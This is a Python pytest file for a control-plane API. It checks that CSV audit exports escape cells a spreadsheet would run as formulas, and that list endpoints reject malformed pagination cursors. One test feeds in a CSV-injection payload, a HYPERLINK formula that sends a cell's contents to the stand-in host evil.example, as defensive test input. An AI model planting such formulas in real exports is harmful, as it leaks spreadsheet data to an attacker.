"""The CSV export is safe to open in a spreadsheet, and no cursor reaches the database unchecked."""

from __future__ import annotations

import base64
import csv
import io
import json

import pytest

from controlplane.appkeys import ROUTES
from tests.controlplane.conftest import workload_body

JWT_TYPE = "urn:ietf:params:oauth:token-type:jwt"


def _cursor(data) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).decode().rstrip("=")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(admin, start) -> None:
    audience = start + 'HYPERLINK("http://evil.example/?x="&A1,"click")'
    body = {"subject_token": "not.a.jwt", "subject_token_type": JWT_TYPE, "audience": audience}
    denied = await admin.post("/v1/token-exchange", json=body, headers={"Authorization": ""})
    assert denied.status_code == 401
    exported = await admin.get("/v1/audit/export", params={"format": "csv", "type": "token.denied"})
    rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
    assert [r["audience"] for r in rows] == ["'" + audience]
    as_json = (await admin.get("/v1/audit/export", params={"type": "token.denied"})).json()
    assert [e["audience"] for e in as_json] == [audience]  # the JSON export is unchanged


async def test_ordinary_cells_are_not_touched(admin) -> None:
    assert (await admin.post("/v1/workloads", json=workload_body("-w"))).status_code == 201
    rows = list(csv.DictReader(io.StringIO((await admin.get("/v1/audit/export?format=csv")).text)))
    assert rows and all(not r["type"].startswith("'") and not r["timestamp"].startswith("'") for r in rows)


BAD_CURSORS = [
    _cursor({"s": 9223372036854775808}),  # one past bigint: was a 500 on every list
    _cursor({"s": 10**30}),
    _cursor({"s": -1}),
    _cursor({"s": 1.5}),
    _cursor({"s": "1"}),
    _cursor({"s": True}),
    _cursor([1]),
    _cursor(None),
    _cursor({"t": "2026-01-01T00:00:00.000Z"}),
    "not-base64!",
    "eyJ4IjoxfQ",
]


async def test_every_list_answers_a_bad_cursor_with_invalid_cursor(control_plane, admin) -> None:
    lists = [
        r.path
        for r in control_plane.app[ROUTES]
        if r.method == "GET" and r.query is not None and "cursor" in r.query.fields
    ]
    assert "/v1/audit/export" in lists and "/v1/workloads" in lists and len(lists) >= 8
    for path in lists:
        for cursor in BAD_CURSORS:
            resp = await admin.get(path, params={"cursor": cursor})
            assert resp.status_code == 400, (path, cursor, resp.text)
            assert resp.json()["error"] == "invalid_cursor" and resp.json()["field"] == "cursor"


@pytest.mark.parametrize(
    "data",
    [
        {"t": "garbage", "s": 1},
        {"t": "2026-13-45T99:00:00.000Z", "s": 1},
        {"t": 5, "s": 1},
        {"t": "2026-01-01T00:00:00.000Z", "s": 2**63},
    ],
)
async def test_an_export_cursor_with_a_bad_timestamp_is_invalid_cursor(admin, data) -> None:
    resp = await admin.get("/v1/audit/export", params={"cursor": _cursor(data)})
    assert resp.status_code == 400 and resp.json()["error"] == "invalid_cursor"


async def test_the_largest_valid_cursor_is_an_empty_page(admin) -> None:
    resp = await admin.get("/v1/workloads", params={"cursor": _cursor({"s": 2**63 - 1})})
    assert resp.status_code == 200 and resp.json()["next_cursor"] is None
